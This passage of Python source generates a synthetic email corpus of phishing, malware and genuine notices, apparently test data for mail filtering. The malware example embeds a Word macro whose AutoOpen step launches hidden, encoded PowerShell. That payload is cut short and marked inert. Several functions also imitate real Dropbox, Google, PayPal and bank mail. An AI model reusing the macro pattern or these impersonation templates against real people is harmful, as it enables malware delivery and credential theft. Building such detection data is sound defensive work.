    head = f"""Date: {rfc(d)}
From: {addr(f"{sharer} (via Dropbox)", "no-reply@dropbox.com")}
Reply-To: {addr(sharer, sharer_email)}
To: {to}
Message-ID: <{rid(stem + 'mid', 22, ALNUM)}@mail.dropbox.com>
Subject: {sharer} shared "{fname}" with you
MIME-Version: 1.0
X-Dropbox-Message-Category: sharing
"""
    body = Multi("alternative", rid(stem + "bnd", 32), [
        Leaf("text/plain", plain.encode(), "quoted-printable", '; charset="utf-8"'),
        Leaf("text/html", html.encode(), "quoted-printable", '; charset="utf-8"')])
    ip = f"208.86.201.{int(rid(stem + 'dip', 2, DIGITS)) + 10}"
    mail(stem, folder, desc, to=to, at=at, ip=ip, rdns=f"mailsend-{ip.split('.')[-1]}.sjc.dropbox.com", helo=f"mailsend-{ip.split('.')[-1]}.sjc.dropbox.com",
         mailfrom=f"bounces+{rid(stem + 'bb', 12, DIGITS)}@mail.dropbox.com", spf="pass", from_dom="dropbox.com",
         dkims=[("dropbox.com", "20240730", "pass"), ("mail.dropbox.com", "20240730", "pass")], dmarc=("pass", "REJECT"),
         head=head, body=body)


def a_dropbox_platform():
    stem = f"b{N}-phish-dropbox-share"
    dropbox_mail(stem, "phishing", "Genuine Dropbox sharing notification (authentic dropbox.com DKIM) sent by a stranger's "
                 "account for 'Payment_Confirmation_INV-20931.pdf', a hosted PDF whose only content is a link to a credential "
                 "page: platform abuse.", to=P, at="2025-07-02 12:08:51", sharer="Accounts Dept",
                 sharer_email="accounts.dept.payments@outlook.com", fname="Payment_Confirmation_INV-20931.pdf",
                 note="Please see the payment confirmation for your records and confirm receipt.")


def a_reply_chain_docm():
    stem = f"b{N}-phish-reply-chain-docm"
    at = "2024-10-15 13:37:04"
    d = when(at) - timedelta(seconds=3)
    sender = "alan_pearce@yahoo.co.uk"
    macro = ('Attribute VB_Name = "ThisDocument"\r\nSub AutoOpen()\r\n    \' inert sample: never executed\r\n'
             '    Dim s As String\r\n    s = "powershell -w hidden -enc " & "SQBFAFgA..."\r\n'
             '    CreateObject("WScript.Shell").Run s, 0\r\nEnd Sub\r\n')
    docm = files.docx(["Village Hall - Quiz Night Invoice", "This document was created in an earlier version of Microsoft Word.",
                       "To view the content, click Enable Editing and then Enable Content."],
                      "Invoice", "Administrator", macro=macro)
    z = files.zip_archive([("Quiz_Night_Invoice_0410.docm", docm)])
    orig_date = (d - timedelta(days=9)).astimezone(LONDON)
    plain = f"""Hi Gordon,

Sorry for the delay, please see the attached invoice as discussed. Let me know once it's done.

Regards,
Alan

On {orig_date.strftime('%A, %d %B %Y at %H:%M')} BST, Gordon Whitlock <{P}> wrote:

> Hi Alan,
>
> Thanks for organising the quiz night tables. Can you send me the bill for the
> hall hire and the raffle prizes so I can settle it from the society account?
>
> Cheers,
> Gordon
"""
    html = f"""<html><head></head><body><div class="yahoo-style-wrap" style="font-family:Helvetica Neue, Helvetica, Arial, sans-serif;font-size:13px;"><div dir="ltr" data-setdir="false">Hi Gordon,</div><div dir="ltr" data-setdir="false"><br></div><div dir="ltr" data-setdir="false">Sorry for the delay, please see the attached invoice as discussed. Let me know once it's done.</div><div dir="ltr" data-setdir="false"><br></div><div dir="ltr" data-setdir="false">Regards,</div><div dir="ltr" data-setdir="false">Alan</div><div><br></div>
<div id="ydp{rid(stem + 'ydp', 8)}yahoo_quoted_{rid(stem + 'yq', 10, DIGITS)}" class="ydp{rid(stem + 'ydp', 8)}yahoo_quoted_display_none">
<div style="font-family:'Helvetica Neue', Helvetica, Arial, sans-serif;font-size:13px;color:#26282a;">
<div>On {orig_date.strftime('%A, %d %B %Y at %H:%M')} BST, Gordon Whitlock &lt;{P}&gt; wrote:</div><div><br></div>
<blockquote style="border-left:1px solid #ccc;padding-left:8px;margin-left:4px;">Hi Alan,<br><br>Thanks for organising the quiz night tables. Can you send me the bill for the hall hire and the raffle prizes so I can settle it from the society account?<br><br>Cheers,<br>Gordon</blockquote>
</div></div></div></body></html>
"""
    t = int(d.timestamp()) * 1000
    boundary = f"----=_Part_{rid(stem + 'b1', 7, DIGITS)}_{rid(stem + 'b2', 9, DIGITS)}.{t + 301}"
    body = Multi("mixed", boundary, [
        Multi("alternative", f"----=_Part_{rid(stem + 'b3', 7, DIGITS)}_{rid(stem + 'b4', 9, DIGITS)}.{t + 300}", [
            Leaf("text/plain", plain.encode(), "7bit", "; charset=UTF-8"),
            Leaf("text/html", html.encode(), "quoted-printable", "; charset=UTF-8")]),
        attachment("application/zip", "Quiz_Night_Invoice_0410.zip", z)])
    orig_id = f"<{rid(stem + 'orig', 20, ALNUM)}@whitlock.me.uk>"
    head = f"""Date: {rfc(d)}
From: {addr("Alan Pearce", sender)}
To: {addr("Gordon Whitlock", P)}
Message-ID: <{rid(stem + 'mid', 10, DIGITS)}.{rid(stem + 'mid2', 7, DIGITS)}.{t + 299}@mail.yahoo.com>
In-Reply-To: {orig_id}
References: {orig_id}
Subject: Re: Quiz night - hall hire and raffle
MIME-Version: 1.0
X-Mailer: WebService/1.1.22625 YMailNorrin
"""
    mail(stem, "malware", "Reply-chain hijack from a friend's compromised Yahoo account answering a real thread about a "
         "quiz night, attaching a zip with a macro-enabled Word document (.docm, AutoOpen runs hidden PowerShell).",
         to=P, at=at, ip="77.238.178.97", rdns="sonic306-21.consmr.mail.ir2.yahoo.com", helo="sonic306-21.consmr.mail.ir2.yahoo.com",
         mailfrom=sender, spf="pass", from_dom="yahoo.co.uk", dkims=[("yahoo.co.uk", "s2048", "pass")], dmarc=("pass", "REJECT"),
         head=head, body=body,
         sign=[("yahoo.co.uk", "s2048", {"headers": "Date:From:To:In-Reply-To:References:Subject:From:Subject:Reply-To"})],
         hops=[f"Received: by hermes--production-ir2-{rid(stem + 'he', 10, 'abcdef0123456789')}-{rid(stem + 'he2', 5, 'abcdefghijklmnopqrstuvwxyz')} "
               f"(Yahoo Inc. Hermes SMTP Server) with ESMTPA ID {rid(stem + 'hid', 32)};\n          {rfc(d)}"])


# ---------------------------------------------------------------------------------------------------------------
# Legitimate, part 1: genuine security notices, receipts and shipping
# ---------------------------------------------------------------------------------------------------------------

def l_google_security():
    stem = f"b{N}-legit-google-security-alert"
    at = "2025-02-19 18:22:06"
    d = when(at) - timedelta(seconds=1)
    ts = int(d.timestamp() * 1000)
    url = (f"https://accounts.google.com/AccountChooser?Email={G}&amp;continue=https://myaccount.google.com/alert/nt/"
           f"{ts}?rfn%3D31%26rfnc%3D1%26eid%3D{rid(stem + 'eid', 19, DIGITS)}%26et%3D0")
    html = f"""<!DOCTYPE html><html lang="en"><head><meta content="email=no" name="format-detection"><meta content="date=no" name="format-detection"><style>.awl a {{color: #FFFFFF; text-decoration: none;}} .abml a {{color: #000000; font-family: Roboto-Medium,Helvetica,Arial,sans-serif; font-weight: bold; text-decoration: none;}} .adgl a {{color: rgba(0, 0, 0, 0.87); text-decoration: none;}} .afal a {{color: #b0b0b0; text-decoration: none;}} @media screen and (min-width: 600px) {{.v2sp {{padding: 6px 30px 0px;}} .v2rsp {{padding: 0px 10px;}}}} @media screen and (min-width: 600px) {{.mdv2rw {{padding: 40px 40px;}}}} </style><link href="//fonts.googleapis.com/css?family=Google+Sans" rel="stylesheet" type="text/css"></head><body style="margin: 0; padding: 0;" bgcolor="#FFFFFF"><table width="100%" height="100%" style="min-width: 348px;" border="0" cellspacing="0" cellpadding="0" lang="en"><tr height="32" style="height: 32px;"><td></td></tr><tr align="center"><td><div itemscope itemtype="//schema.org/EmailMessage"><div itemprop="action" itemscope itemtype="//schema.org/ViewAction"><link itemprop="url" href="{url}"><meta itemprop="name" content="Review Activity"></div></div><table border="0" cellspacing="0" cellpadding="0" style="padding-bottom: 20px; max-width: 516px; min-width: 220px;"><tr><td width="8" style="width: 8px;"></td><td><div style="border-style: solid; border-width: thin; border-color:#dadce0; border-radius: 8px; padding: 40px 20px;" align="center" class="mdv2rw"><img src="https://www.gstatic.com/images/branding/googlelogo/2x/googlelogo_color_74x24dp.png" width="74" height="24" aria-hidden="true" style="margin-bottom: 16px;" alt="Google"><div style="font-family: 'Google Sans',Roboto,RobotoDraft,Helvetica,Arial,sans-serif;border-bottom: thin solid #dadce0; color: rgba(0,0,0,0.87); line-height: 32px; padding-bottom: 24px;text-align: center; word-break: break-word;"><div style="font-size: 24px;">A new sign-in on Windows</div><table align="center" style="margin-top:8px;"><tr style="line-height: normal;"><td align="right" style="padding-right:8px;"><img width="20" height="20" style="width: 20px; height: 20px; vertical-align: sub; border-radius: 50%;;" src="https://lh3.googleusercontent.com/a/default-user=s96" alt=""></td><td><a style="font-family: 'Google Sans',Roboto,RobotoDraft,Helvetica,Arial,sans-serif;color: rgba(0,0,0,0.87); font-size: 14px; line-height: 20px;">{G}</a></td></tr></table></div><div style="font-family: Roboto-Regular,Helvetica,Arial,sans-serif; font-size: 14px; color: rgba(0,0,0,0.87); line-height: 20px;padding-top: 20px; text-align: left;">We noticed a new sign-in to your Google Account on a Windows device. If this was you, you don’t need to do anything. If not, we’ll help you secure your account.<div style="padding-top: 32px; text-align: center;"><a href="{url}" target="_blank" link-id="main-button-link" style="font-family: 'Google Sans',Roboto,RobotoDraft,Helvetica,Arial,sans-serif; line-height: 16px; color: #ffffff; font-weight: 400; text-decoration: none;font-size: 14px;display:inline-block;padding: 10px 24px;background-color: #4184F3; border-radius: 5px; min-width: 90px;">Check activity</a></div></div><div style="padding-top: 20px; font-size: 12px; line-height: 16px; color: #5f6368; letter-spacing: 0.3px; text-align: center">You can also see security activity at<br><a style="color: rgba(0, 0, 0, 0.87);text-decoration: inherit;">https://myaccount.google.com/notifications</a></div></div><div style="text-align: left;"><div style="font-family: Roboto-Regular,Helvetica,Arial,sans-serif;color: rgba(0,0,0,0.54); font-size: 11px; line-height: 18px; padding-top: 12px; text-align: center;"><div>You received this email to let you know about important changes to your Google Account and services.</div><div style="direction: ltr;">&copy; 2025 Google LLC, <a class="afal" style="font-family: Roboto-Regular,Helvetica,Arial,sans-serif;color: rgba(0,0,0,0.54); font-size: 11px; line-height: 18px; padding-top: 12px; text-align: center;">1600 Amphitheatre Parkway, Mountain View, CA 94043, USA</a></div></div></div></td><td width="8" style="width: 8px;"></td></tr></table></td></tr><tr height="32" style="height: 32px;"><td></td></tr></table></body></html>
"""
    plain = (f"[image: Google]\nA new sign-in on Windows\n\n\n{G}\nWe noticed a new sign-in to your Google Account on a Windows "
             "device. If this was you, you don’t need to do anything. If not, we’ll help you secure your account.\n"
             f"Check activity\n<{url.replace('&amp;', '&')}>\nYou can also see security activity at\n"
             "https://myaccount.google.com/notifications\nYou received this email to let you know about important changes to "
             "your Google Account and services.\n© 2025 Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA\n")
    mailfrom = f"3{rid(stem + 'mf', 20, ALNUM)}-{rid(stem + 'mf2', 6, ALNUM.lower())}.{rid(stem + 'mf3', 8, ALNUM.lower())}@gaia.bounces.google.com"
    head = f"""MIME-Version: 1.0
Date: {rfc(d)}
X-Account-Notification-Type: 31
Feedback-ID: 31:account-notifier
X-Notifications: {rid(stem + 'xn', 16)}
X-Notifications-Bounce-Info: A{rid(stem + 'xnb', 60, ALNUM + '-_')}
Message-ID: <{rid(stem + 'mid', 22, ALNUM + '-_')}@notifications.google.com>
Subject: Security alert
From: Google <no-reply@accounts.google.com>
To: {G}
"""
    body = Multi("alternative", f"000000000000{rid(stem + 'bd', 16)}", [
        Leaf("text/plain", plain.encode(), "base64", '; charset="UTF-8"; format=flowed; delsp=yes'),
        Leaf("text/html", html.encode(), "quoted-printable", '; charset="UTF-8"')])
    n = 69
    mail(stem, "bulk", "Genuine Google 'Security alert: a new sign-in on Windows' account notification from "
         "no-reply@accounts.google.com with the Check activity button to accounts.google.com.",
         to=G, at=at, ip=f"209.85.220.{n}", rdns=f"mail-sor-f{n}.google.com", helo=f"mail-sor-f{n}.google.com",
         mailfrom=mailfrom, spf="pass", from_dom="accounts.google.com", dkims=[("accounts.google.com", "20230601", "pass")],
         dmarc=("pass", "REJECT"), head=head, body=body,
         sign=[("accounts.google.com", "20230601", {"headers": "to:from:subject:message-id:feedback-id:date:mime-version:from:to:cc\n\t :subject:date:message-id:reply-to"})],
         hops=[f"Received: by mail-sor-f{n}.google.com with SMTP id {rid(stem + 'sid', 14, ALNUM.lower())}sor{rid(stem + 'sn', 7, DIGITS)}"
               f"pgf.{rid(stem + 'sn2', 3, DIGITS)}.{d.astimezone(PACIFIC).strftime('%Y.%m.%d.%H.%M.%S')}\n        for <{G}>\n"
               f"        (Google Transport Security);\n        {rfc(d, PACIFIC, comment=True)}"])


def l_microsoft_code():
    stem = f"b{N}-legit-microsoft-security-code"
    at = "2025-06-14 08:03:57"
    d = when(at) - timedelta(seconds=1)
    code = rid(stem + "code", 6, DIGITS)
    masked = "g*****@hotmail.co.uk"
    plain = (f"Microsoft account\r\nSecurity code\r\n\r\nPlease use the following security code for the Microsoft account "
             f"{masked}.\r\n\r\nSecurity code: {code}\r\n\r\nIf you don't recognise the Microsoft account {masked}, you can "
             "click https://account.live.com/dp?token=" + rid(stem + 'tok', 60, ALNUM) + " to remove your email address from "
             "that account.\r\n\r\nThanks,\r\nThe Microsoft account team\r\n")
    html = f"""<html dir="ltr"><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><style type="text/css">.link:link, .link:active, .link:visited {{color:#2672ec !important;text-decoration:none !important;}}</style></head>
<body><table dir="ltr"><tr><td id="i1" style="padding:0; font-family:'Segoe UI Semibold', 'Segoe UI Bold', 'Segoe UI', 'Helvetica Neue Medium', Arial, sans-serif; font-size:17px; color:#707070;">Microsoft account</td></tr>
<tr><td id="i2" style="padding:0; font-family:'Segoe UI Light', 'Segoe UI', 'Helvetica Neue Medium', Arial, sans-serif; font-size:41px; color:#2672ec;">Security code</td></tr>
<tr><td id="i3" style="padding:0; padding-top:25px; font-family:'Segoe UI', Tahoma, Verdana, Arial, sans-serif; font-size:14px; color:#2a2a2a;">Please use the following security code for the Microsoft account <a dir="ltr" id="iAccount" class="link" style="color:#2672ec; text-decoration:none" href="mailto:{H}">{masked}</a>.</td></tr>
<tr><td id="i4" style="padding:0; padding-top:25px; font-family:'Segoe UI', Tahoma, Verdana, Arial, sans-serif; font-size:14px; color:#2a2a2a;">Security code: <span style="font-family:'Segoe UI Bold', 'Segoe UI Semibold', 'Segoe UI', 'Helvetica Neue Medium', Arial, sans-serif; font-size:14px; font-weight:bold; color:#2a2a2a;">{code}</span></td></tr>
<tr><td id="i5" style="padding:0; padding-top:25px; font-family:'Segoe UI', Tahoma, Verdana, Arial, sans-serif; font-size:14px; color:#2a2a2a;">If you don't recognise the Microsoft account <a dir="ltr" id="iAccount" class="link" style="color:#2672ec; text-decoration:none" href="mailto:{H}">{masked}</a>, you can <a id="iLink2" class="link" style="color:#2672ec; text-decoration:none" href="https://account.live.com/dp?token={rid(stem + 'tok', 60, ALNUM)}">click here</a> to remove your email address from that account.</td></tr>
<tr><td id="i6" style="padding:0; padding-top:25px; font-family:'Segoe UI', Tahoma, Verdana, Arial, sans-serif; font-size:14px; color:#2a2a2a;">Thanks,</td></tr>
<tr><td id="i7" style="padding:0; font-family:'Segoe UI', Tahoma, Verdana, Arial, sans-serif; font-size:14px; color:#2a2a2a;">The Microsoft account team</td></tr></table></body></html>
"""
    dom = "accountprotection.microsoft.com"
    head = f"""From: {addr("Microsoft account team", "account-security-noreply@" + dom)}
To: {H}
Subject: Microsoft account security code
Date: {rfc(d)}
Message-ID: <{rid(stem + 'mid', 8, UPNUM)}.{rid(stem + 'mid2', 16, UPNUM)}@BL02EPF0000{rid(stem + 'h2', 4, '0123456789ABCDEF')}>
X-Priority: 1
X-MSAPipeline: MessageDispatcher
X-MSAMetaData: {rid(stem + 'meta', 80, ALNUM + '!*')}
MIME-Version: 1.0
"""
    body = Multi("alternative", f"--boundary_{rid(stem + 'b', 6, DIGITS)}_{rid(stem + 'b2', 8)}-{rid(stem + 'b3', 4)}-{rid(stem + 'b4', 4)}-{rid(stem + 'b5', 4)}-{rid(stem + 'b6', 12)}", [
        Leaf("text/plain", plain.encode(), "quoted-printable", '; charset=utf-8'),
        Leaf("text/html", html.encode(), "quoted-printable", '; charset=utf-8')])
    ip = f"40.107.{int(rid(stem + 'ip', 2, DIGITS)) % 20 + 200}.{int(rid(stem + 'ip2', 3, DIGITS)) % 250 + 2}"
    mail(stem, "bulk", "Genuine Microsoft account security code email (one-time code, account masked, removal link to "
         "account.live.com) sent after the recipient signed in to Outlook.com.",
         to=H, at=at, ip=ip, rdns=f"mail-dm3nam02on{rid(stem + 'h3', 4, DIGITS)}.outbound.protection.outlook.com",
         helo=f"mail-dm3nam02on{rid(stem + 'h3', 4, DIGITS)}.outbound.protection.outlook.com",
         mailfrom="account-security-noreply@" + dom, spf="pass", from_dom=dom, dkims=[(dom, "s1024-meo", "pass")],
         dmarc=("pass", "REJECT"), head=head, body=body,
         sign=[(dom, "s1024-meo", {"headers": "Date:From:To:Subject:Message-ID:MIME-Version:Content-Type", "bits": 1024})])


def l_paypal_receipt():
    stem = f"b{N}-legit-paypal-receipt"
    at = "2025-03-08 12:45:31"
    d = when(at) - timedelta(seconds=2)
    txn = rid(stem + "txn", 17, UPNUM)
    inner = f"""<tr><td style="padding:0 20px;font-size:28px;line-height:36px;color:#001435;font-weight:bold;">You sent &pound;34.50 GBP to Hebden Yarn Co</td></tr>
<tr><td style="padding:20px;font-size:15px;color:#001435;line-height:22px;">Hello, Gordon Whitlock<br /><br />
It may take a few moments for this transaction to appear in your account.</td></tr>
<tr><td style="padding:0 20px 20px 20px;font-size:14px;color:#001435;line-height:22px;">
<b>Merchant</b><br />Hebden Yarn Co<br />orders@hebdenyarn.co.uk<br /><br />
<b>Instructions to merchant</b><br />You haven't entered any instructions.<br /><br />
<b>Transaction ID</b><br /><a href="https://www.paypal.com/myaccount/activity/details/{txn}" style="color:#0070e0;">{txn}</a><br /><br />
<b>Transaction date</b><br />{d.astimezone(LONDON).strftime('%d %B %Y %H:%M:%S')} {d.astimezone(LONDON).tzname()}<br /><br />
<table width="100%" style="font-size:14px;border-top:1px solid #e6e6e6;"><tr><td style="padding:8px 0;">Merino DK yarn, Heather (x5)</td><td align="right">&pound;29.50 GBP</td></tr>
<tr><td style="padding:8px 0;">Postage and packing</td><td align="right">&pound;5.00 GBP</td></tr>
<tr><td style="padding:8px 0;"><b>Total</b></td><td align="right"><b>&pound;34.50 GBP</b></td></tr></table><br />
<b>Payment</b><br />&pound;34.50 GBP<br />Funding source: Visa Debit x-4417</td></tr>
<tr><td style="padding:0 20px 20px 20px;font-size:14px;color:#687173;">For questions about this payment, contact Hebden Yarn Co. Issues with this transaction? You have 180 days from the date of the transaction to open a dispute in the <a href="https://www.paypal.com/disputes/" style="color:#0070e0;">Resolution Centre</a>.</td></tr>"""
    html = paypal_wrap(inner).replace("/us/", "/uk/").replace("PayPal, Inc. All rights reserved. PayPal is located at 2211 N. First St., San Jose, CA 95131.",
                                        "PayPal. All rights reserved. PayPal (Europe) S.&agrave; r.l. et Cie, S.C.A., 22-24 Boulevard Royal, L-2449, Luxembourg.")
    head = f"""Date: {rfc(d, PACIFIC)}
From: {addr("service@paypal.co.uk", "service@paypal.co.uk")}
To: {addr("Gordon Whitlock", G)}
Subject: Receipt for your payment to Hebden Yarn Co
Message-ID: <{rid(stem + 'mid', 12, ALNUM)}.{rid(stem + 'mid2', 10, DIGITS)}@paypal.co.uk>
MIME-Version: 1.0
X-MaxCode-Template: PPX001084
X-PP-REQUESTED-TIME: {int(d.timestamp()) * 1000}
X-PP-Email-transmission-Id: {rid(stem + 'tid', 8)}-{rid(stem + 'tid2', 4)}-11f0-{rid(stem + 'tid3', 4)}-{rid(stem + 'tid4', 12)}
PP-Correlation-Id: {rid(stem + 'cid', 13)}
"""
    body = Leaf("text/html", html.encode(), "quoted-printable", '; charset="UTF-8"')
    mail(stem, "bulk", "Genuine PayPal UK payment receipt for a small yarn order, with transaction ID link to paypal.com "
         "and the customer's full name.",
         to=G, at=at, ip="173.0.84.226", rdns="mx2.slc.paypal.com", helo="mx2.slc.paypal.com", mailfrom="service@paypal.co.uk",
         spf="pass", from_dom="paypal.co.uk", dkims=[("paypal.co.uk", "pp-dkim1", "pass")], dmarc=("pass", "REJECT"),
         head=head, body=body,
         sign=[("paypal.co.uk", "pp-dkim1", {"headers": "Content-Type:MIME-Version:Date:Message-ID:Subject:To:From", "i": "@paypal.co.uk"})])


def l_amazon_dispatched():
    stem = f"b{N}-legit-amazon-dispatched"
    at = "2025-11-27 15:12:44"
    d = when(at) - timedelta(seconds=2)
    to = "amazon@whitlock.me.uk"
    order = f"203-{rid(stem + 'o', 7, DIGITS)}-{rid(stem + 'o2', 7, DIGITS)}"
    track = (f"https://www.amazon.co.uk/gp/f.html?C={rid(stem + 'c', 13, UPNUM)}&amp;K={rid(stem + 'k', 14, UPNUM)}&amp;"
             f"M=urn:rtn:msg:{d.strftime('%Y%m%d%H%M%S')}{rid(stem + 'urn', 32)}&amp;R={rid(stem + 'r', 13, UPNUM)}&amp;"
             f"T=C&amp;U=https%3A%2F%2Fwww.amazon.co.uk%2Fgp%2Fyour-account%2Fship-track%3ForderId%3D{order}&amp;H={rid(stem + 'h', 30, UPNUM)}")
    html = f"""<!DOCTYPE html><html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"><meta name="viewport" content="width=device-width, initial-scale=1"></head>
<body style="margin:0;padding:0;background:#ffffff;"><table role="presentation" width="100%" cellpadding="0" cellspacing="0"><tr><td align="center">
<table role="presentation" width="600" cellpadding="0" cellspacing="0" style="font-family:'Amazon Ember',Arial,sans-serif;color:#0f1111;">
<tr><td style="padding:16px 20px;background:#232f3e;"><img src="https://m.media-amazon.com/images/G/02/sm/nav/logo-smile-white.png" width="90" alt="amazon.co.uk"></td></tr>
<tr><td style="padding:24px 20px 4px 20px;font-size:24px;font-weight:bold;">Dispatched</td></tr>
<tr><td style="padding:4px 20px;font-size:15px;">Hi Gordon, your package has been dispatched.</td></tr>
<tr><td style="padding:16px 20px;font-size:15px;"><b>Arriving Friday</b><br><span style="color:#565959;">{(d + timedelta(days=2)).strftime('%A %d %B')}</span></td></tr>
<tr><td style="padding:6px 20px 20px 20px;"><a href="{track}" style="background:#ffd814;color:#0f1111;padding:10px 26px;border-radius:20px;text-decoration:none;font-size:14px;">Track your package</a></td></tr>
<tr><td style="padding:10px 20px;font-size:14px;border-top:1px solid #d5d9d9;">Bosch Serie 4 kettle filter replacement (2 pack)<br><span style="color:#565959;">Quantity: 1</span></td></tr>
<tr><td style="padding:10px 20px;font-size:14px;">Order # <a href="https://www.amazon.co.uk/gp/your-account/order-details?orderID={order}" style="color:#007185;">{order}</a></td></tr>
<tr><td style="padding:20px;font-size:12px;color:#565959;border-top:1px solid #d5d9d9;">Shipping to: Gordon Whitlock, HARROGATE, HG2<br><br>
&copy;2025 Amazon.com, Inc. or its affiliates. Amazon and all related marks are trademarks of Amazon.com, Inc. or its affiliates. Amazon EU S.&agrave; r.l., 38 avenue John F. Kennedy, L-1855 Luxembourg.<br><br>
This email was sent from a notification-only address that cannot accept incoming email. Please do not reply to this message.</td></tr>
</table></td></tr></table></body></html>
"""
    plain = (f"Amazon.co.uk\n\nDispatched\n\nHi Gordon, your package has been dispatched.\n\nArriving Friday\n\nTrack your package:\n"
             f"{track.replace('&amp;', '&')}\n\nBosch Serie 4 kettle filter replacement (2 pack)\nQuantity: 1\n\nOrder # {order}\n\n"
             "This email was sent from a notification-only address that cannot accept incoming email.\n")
    mf = f"{d.strftime('%Y%m%d%H%M%S')}{rid(stem + 'mf', 20)}@bounces.amazon.co.uk"
    head = f"""Date: {rfc(d)}
From: {addr("Amazon.co.uk", "shipment-tracking@amazon.co.uk")}
To: {to}
Message-ID: <0102{rid(stem + 'mid', 12)}-{rid(stem + 'mid2', 8)}-{rid(stem + 'mid3', 4)}-{rid(stem + 'mid4', 4)}-{rid(stem + 'mid5', 4)}-{rid(stem + 'mid6', 12)}-000000@eu-west-1.amazonses.com>
Subject: Dispatched: "Bosch Serie 4 kettle filter..."
MIME-Version: 1.0
Bounces-to: {mf}
X-AMAZON-MAIL-RELAY-TYPE: notification
X-AMAZON-RTE-VERSION: 2.0
X-AMAZON-METADATA: CA=C{rid(stem + 'ca', 13, UPNUM)}-CU=A{rid(stem + 'cu', 13, UPNUM)}
Feedback-ID: ::1.eu-west-1.{rid(stem + 'fb', 43, ALNUM)}=:AmazonSES
X-SES-Outgoing: {d.strftime('%Y.%m.%d')}-54.240.4.{int(rid(stem + 'so', 2, DIGITS)) + 1}
"""
    body = Multi("alternative", f"----=_Part_{rid(stem + 'b1', 7, DIGITS)}_{rid(stem + 'b2', 9, DIGITS)}.{int(d.timestamp()) * 1000}", [
        Leaf("text/plain", plain.encode(), "quoted-printable", "; charset=UTF-8"),
        Leaf("text/html", html.encode(), "quoted-printable", "; charset=UTF-8")])
    ip = f"54.240.4.{int(rid(stem + 'so', 2, DIGITS)) + 1}"
    mail(stem, "bulk", "Genuine Amazon.co.uk dispatch notification to the recipient's Amazon-only alias on his own domain, "
         "with Amazon's f.html click-tracking link to order tracking.",
         to=to, at=at, ip=ip, rdns=f"a4-{ip.split('.')[-1]}.smtp-out.eu-west-1.amazonses.com",
         helo=f"a4-{ip.split('.')[-1]}.smtp-out.eu-west-1.amazonses.com", mailfrom=mf, spf="pass", from_dom="amazon.co.uk",
         dkims=[("amazon.co.uk", "4nrg4duzt7jxocfrr2bxfhrcjyyocvpd", "pass"), ("amazonses.com", "ihchhvubuqgjsxyuhssfvqohv7z3u4hn", "pass")],
         dmarc=("pass", "QUARANTINE"), head=head, body=body)


def l_royalmail_tracking():
    stem = f"b{N}-legit-royalmail-on-its-way"
    at = "2025-02-26 07:58:10"
    d = when(at) - timedelta(seconds=2)
    ref = f"QF{rid(stem + 'ref', 9, DIGITS)}GB"
    url = f"https://www.royalmail.com/track-your-item#/tracking-results/{ref}"
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body style="margin:0;background:#f2f2f2;">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:20px 0;">
<table width="600" cellpadding="0" cellspacing="0" style="background:#fff;font-family:Arial,sans-serif;color:#333;">
<tr><td style="background:#da202a;padding:16px 24px;"><img src="https://www.royalmail.com/sites/royalmail.com/files/images/rm-logo.png" width="120" alt="Royal Mail"></td></tr>
<tr><td style="padding:24px;font-size:22px;font-weight:bold;">Your parcel from Lakeland is on its way</td></tr>
<tr><td style="padding:0 24px 16px 24px;font-size:15px;line-height:22px;">Hello Gordon Whitlock,<br><br>Your parcel from <b>Lakeland</b> is due to be delivered
on <b>{(d + timedelta(days=1)).strftime('%A %d %B')}</b>. You don't need to do anything.<br><br>Tracking number: <b>{ref}</b></td></tr>
<tr><td style="padding:6px 24px 22px 24px;"><a href="{url}" style="background:#da202a;color:#fff;padding:11px 26px;text-decoration:none;font-weight:bold;">Track your item</a></td></tr>
<tr><td style="padding:0 24px 20px 24px;font-size:13px;line-height:19px;color:#555;">If you're not going to be in, you can arrange a
Redelivery or choose a Safeplace via our website. Royal Mail will never ask you to pay a fee by email or text for a parcel
unless a customs charge is due, and we will always show you the amount on a grey card.</td></tr>
<tr><td style="padding:16px 24px;background:#f7f7f7;font-size:11px;color:#777;line-height:16px;">Royal Mail Group Limited, registered in England and Wales, number 4138203. Registered office: 185 Farringdon Road, London, EC1A 1AA.<br>
<a href="https://www.royalmail.com/privacy-policy" style="color:#777;">Privacy policy</a></td></tr>
</table></td></tr></table></body></html>
"""
    plain = (f"Your parcel from Lakeland is on its way\n\nHello Gordon Whitlock,\n\nYour parcel from Lakeland is due to be delivered "
             f"on {(d + timedelta(days=1)).strftime('%A %d %B')}. You don't need to do anything.\n\nTracking number: {ref}\n"
             f"Track your item: {url}\n\nRoyal Mail Group Limited, registered in England and Wales, number 4138203.\n")
    head = f"""From: {addr("Royal Mail", "no-reply@royalmail.com")}
To: {H}
Subject: Your Royal Mail parcel from Lakeland is on its way
Date: {rfc(d)}
Message-ID: <{rid(stem + 'mid', 8)}-{rid(stem + 'mid2', 4)}-{rid(stem + 'mid3', 4)}-{rid(stem + 'mid4', 4)}-{rid(stem + 'mid5', 12)}@royalmail.com>
MIME-Version: 1.0
"""
    body = Multi("alternative", f"=_{rid(stem + 'bd', 30)}", [
        Leaf("text/plain", plain.encode(), "quoted-printable", "; charset=utf-8"),
        Leaf("text/html", html.encode(), "quoted-printable", "; charset=utf-8")])
    mail(stem, "bulk", "Genuine Royal Mail 'your parcel from Lakeland is on its way' tracking notification with a link to "
         "royalmail.com tracking, no fee requested.",
         to=H, at=at, ip="185.12.80.149", rdns="mta149.notifications.royalmail.com", helo="mta149.notifications.royalmail.com",
         mailfrom=f"bounce-{rid(stem + 'bn', 10)}@notifications.royalmail.com", spf="pass", from_dom="royalmail.com",
         dkims=[("royalmail.com", "rm2023", "pass")], dmarc=("pass", "REJECT"), head=head, body=body)


def l_natwest_statement():
    stem = f"b{N}-legit-natwest-statement"
    at = "2025-04-04 06:12:30"
    d = when(at) - timedelta(seconds=2)
    html = page(f"""<tr><td style="background:#42145f;padding:18px 26px;"><img src="https://www.natwest.com/content/dam/natwest/email/nw-logo-white.png" width="120" alt="NatWest"></td></tr>
<tr><td style="padding:26px 26px 6px 26px;font-size:20px;color:#42145f;font-weight:bold;">Your credit card statement is ready</td></tr>
<tr><td style="padding:10px 26px;font-size:15px;line-height:23px;">Dear Mr Whitlock,<br><br>Your latest statement for your NatWest Reward
credit card ending <b>4417</b> is now available to view in the NatWest app or in Online Banking.<br><br>
Your minimum payment will be collected by Direct Debit on the due date shown on your statement.<br><br>
